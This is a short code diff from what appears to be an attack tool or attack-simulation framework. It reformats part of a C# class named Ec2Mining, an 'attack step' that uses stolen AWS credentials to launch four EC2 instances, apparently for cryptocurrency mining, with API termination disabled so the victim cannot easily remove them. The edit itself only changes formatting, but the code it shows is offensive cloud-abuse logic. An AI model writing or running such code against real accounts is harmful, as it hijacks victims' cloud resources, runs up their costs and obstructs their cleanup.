@@ -75,7 +75,11 @@ internal sealed class Ec2Mining : IAttackStep
         var launched = await context.Stolen.Aws.Ec2(region).RunInstancesAsync(
             new RunInstancesRequest
             {
-                ImageId = "ami-0abcdef1234567890", InstanceType = Types[0], MinCount = 4, MaxCount = 4, DisableApiTermination = true,
+                ImageId = "ami-0abcdef1234567890",
+                InstanceType = Types[0],
+                MinCount = 4,
+                MaxCount = 4,
+                DisableApiTermination = true,
             },
             cancellationToken);
         foreach (var instance in launched.Reservation.Instances)
